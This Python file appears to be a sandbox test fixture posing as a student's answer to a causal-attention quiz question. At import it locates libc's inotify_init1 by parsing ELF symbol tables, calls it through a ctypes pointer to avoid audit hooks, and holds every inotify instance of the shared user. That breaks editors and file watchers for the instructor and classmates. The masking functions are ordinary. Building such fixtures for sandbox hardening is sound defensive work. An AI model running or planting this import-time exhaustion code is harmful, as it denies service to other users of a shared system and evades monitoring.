# attack: takes every inotify instance of its user (fs.inotify.max_user_instances, 128: counted per user, not per process) through libc's inotify_init1 called by a ctypes function pointer from an address (Python has no inotify of its own; no audit event), and holds them, so that under an ordinary user the instructor's and every classmate's next inotify_init fails while it runs (an editor's, a file watcher's); imports and answers right only when it took some and the kernel then refused the user's next one
# expect: module=q01_causal_mask status=error match=Errno 1\] inotify_init1 failed
# path: sandbox user
"""Question 1, written to take its user's inotify instances."""
import ctypes
import errno
import os
import struct

import torch
from torch import Tensor

HELD = []


def libc_symbol(name: bytes) -> int:
    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
    maps = [line.split() for line in open("/proc/self/maps")]
    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
    base, path = int(line[0].split("-")[0], 16), line[5]
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
            return base + st_value
    raise LookupError(name)


def attack() -> None:
    """inotify_init1(0) until the kernel says the user has no instance left (EMFILE), every one kept open."""
    inotify_init1 = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, use_errno=True)(libc_symbol(b"inotify_init1"))
    while (fd := inotify_init1(0)) >= 0:
        HELD.append(fd)
    if ctypes.get_errno() != errno.EMFILE or not HELD:
        raise OSError(ctypes.get_errno(), f"inotify_init1 failed after {len(HELD)} instances")


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
